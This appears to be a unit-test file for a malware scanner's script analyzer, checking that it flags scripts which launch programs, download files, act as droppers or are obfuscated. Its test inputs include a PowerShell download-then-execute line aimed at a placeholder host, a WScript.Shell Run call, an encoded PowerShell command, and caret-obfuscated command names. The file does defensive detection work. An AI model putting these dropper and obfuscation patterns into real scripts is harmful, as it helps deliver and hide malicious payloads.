"""Scripts."""

import pytest

from cloud.analyzers.script import ScriptAnalyzer, signs_of_script
from lab.traffic.samples.catalogue import sample
from tests.unit.cloud.analyzers.looking import found_by, signs


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"alert('hello')", set()),
        (b'CreateObject("WScript.Shell").Run "notepad"', {"script.starts-programs"}),
        (b"Invoke-WebRequest https://a.invalid/x", {"script.downloads"}),
        (
            b"(New-Object Net.WebClient).DownloadFile('https://a.invalid/x','x'); Start-Process x",
            {"script.starts-programs", "script.downloads", "script.dropper"},
        ),
        (b"powershell -enc " + b"QUFB" * 20, {"script.starts-programs", "script.obfuscated"}),
        (b"eval(function(p,a,c,k,e,d){return p})", {"script.obfuscated"}),
        (b"x = " + b"Chr(65) & " * 12 + b'""', {"script.obfuscated"}),
        (b"c^e^r^t^u^t^i^l^ ^-^u".replace(b" ", b""), set()),
        (b"p^o^w^e^r^s^h^e^l^l^x", {"script.obfuscated"}),
    ],
)
def test_what_a_script_does_is_told_from_its_words(text: bytes, expected: set[str]) -> None:
    assert {sign.name for sign in signs_of_script(text)} == expected


def test_a_name_that_windows_runs_makes_any_text_a_script() -> None:
    assert signs(found_by(ScriptAnalyzer(), b"hello", "hello.vbs")) == {"script.present", "script.runs-by-name"}
    assert found_by(ScriptAnalyzer(), b"hello", "hello.txt") == []


def test_content_alone_makes_a_script_as_well() -> None:
    assert "script.dropper" in signs(found_by(ScriptAnalyzer(), sample("dropper-js").content))


def test_macro_sources_are_left_to_office() -> None:
    assert found_by(ScriptAnalyzer(), sample("dropper-js").content, "Module1.bas") == []


def test_a_script_in_utf_16_is_read() -> None:
    text = 'Set s = CreateObject("WScript.Shell")\nOn Error Resume Next\ns.Run "x"'.encode("utf-16")
    assert "script.starts-programs" in signs(found_by(ScriptAnalyzer(), text))
